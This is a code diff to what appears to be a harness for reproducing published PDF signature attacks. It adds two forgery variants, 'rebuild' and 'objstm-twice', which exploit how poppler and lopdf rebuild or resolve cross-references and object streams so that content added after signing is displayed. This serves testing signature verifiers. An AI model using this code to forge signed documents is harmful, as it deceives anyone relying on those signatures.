@@ -63,6 +63,14 @@ holds): what the published attacks on PDF signatures add after signing.
                  object listed nowhere: a reader that finds the catalog not
                  where the cross-reference says rebuilds it from the
                  objects it finds, and the forged one is the newest
+  rebuild        a cross-reference stream poppler does not read (its type
+                 5 bytes wide) listing a stream whose data holds a forged
+                 object of page 1's content's number: rebuilding the
+                 cross-reference, poppler takes that one
+  objstm-twice   an object stream holding the catalog twice, and a
+                 cross-reference stream pointing the catalog into it
+                 (lopdf keeps the last copy, other readers the one at the
+                 index given)
   drop-provider  the provider's field taken out of /AcroForm /Fields, and
                  page 1's content forged
   acroform-info  the catalog's /AcroForm pointed at the /Info dictionary,
@@ -241,7 +249,37 @@ def xref_update(kind, src, out):
     def entry(offset, kind=b"n", gen=0):
         return b"%010d %05d %s\r\n" % (offset, gen, kind)
 
-    if kind == "generation":
+    if kind == "rebuild":
+        # A cross-reference stream poppler refuses (a type 5 bytes wide),
+        # listing a stream whose data holds a forged object of page 1's
+        # content's number: poppler rebuilds the cross-reference from every
+        # header, and that one is the newest.
+        hidden, x = size, size + 1
+        inner = b"\n%d 0 obj\n<< /Length %d >>\nstream\n" % (c, len(forged)) + forged + b"\nendstream\n"
+        h = stream(hidden, b"/Type /XRef", inner)
+        xref = len(buf)
+        wide = lambda o: struct.pack(">BI", 0, 1) + struct.pack(">IH", o, 0)
+        stream(
+            x,
+            b"/Type /XRef /Size %d /W [5 4 2] /Index [%d 2] /Prev %d " % (x + 1, hidden, prev) + keys,
+            wide(h) + wide(xref),
+        )
+    elif kind == "objstm-twice":
+        # An object stream holding the catalog twice, as signed, and a
+        # cross-reference stream pointing the catalog at its first copy.
+        root = r_root
+        at = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % root, data)][-1]
+        body = data[data.index(b"<<", at) : data.index(b"endobj", at)].rstrip()
+        objstm, x = size, size + 1
+        head = b"%d 0 %d %d " % (root, root, len(body) + 1)
+        o = stream(objstm, b"/Type /ObjStm /N 2 /First %d" % len(head), head + body + b"\n" + body + b"\n")
+        xref = len(buf)
+        stream(
+            x,
+            b"/Type /XRef /Size %d /W [1 4 2] /Index [%d 1 %d 2] /Prev %d " % (x + 1, root, objstm, prev) + keys,
+            struct.pack(">BIH", 2, objstm, 0) + row(o) + row(xref),
+        )
+    elif kind == "generation":
         root = r_root
         at = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % root, data)][-1]
         catalog = data[at : data.index(b"endobj", at) + 6]
@@ -288,7 +326,7 @@ def main(kind, src, out, *rest):
     if kind == "xref-repoint":
         xref_repoint(src, out)
         return
-    if kind in ("xrefstm", "dup", "index-dup", "free-stray", "generation"):
+    if kind in ("xrefstm", "dup", "index-dup", "free-stray", "generation", "rebuild", "objstm-twice"):
         xref_update(kind, src, out)
         return
     with open(src, "rb") as f:
